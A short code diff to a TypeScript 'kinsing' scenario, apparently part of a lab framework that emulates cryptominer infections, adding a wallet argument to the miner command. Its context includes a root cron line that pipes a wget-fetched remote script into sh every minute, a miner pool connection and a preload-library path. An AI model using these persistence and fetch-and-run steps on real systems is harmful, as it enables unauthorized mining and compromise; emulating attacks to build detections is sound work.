@@ -1,5 +1,5 @@
 import type { Scenario } from './types.js';
-import { cronLine, dropper, installBinary, processArtifact, ROOT_CRONTAB, startProcess, stratum, writeFile, installUnit } from './kit.js';
+import { cronLine, dropper, installBinary, processArtifact, ROOT_CRONTAB, startProcess, stratum, writeFile, installUnit, WALLET } from './kit.js';
 import { legitCron } from './clean.js';
 import { respawnCommand } from './ddg.js';
 
@@ -12,7 +12,7 @@ const PRELOAD_LIB = '/etc/libsystem.so';
 export const kinsing: Scenario = {
   name: 'kinsing',
   plan: (ctx) => {
-    const minerArgv = [MINER, '-o', stratum(ctx.pool, 14444)];
+    const minerArgv = [MINER, '-o', stratum(ctx.pool, 14444), '-u', WALLET];
     const env = { MS_LAB_CHILD: respawnCommand(ctx.http, 'kinsing', MINER, minerArgv) };
     const cron = `* * * * * wget -q -O - ${ctx.http}/d.sh | sh > /dev/null 2>&1`;
     return {
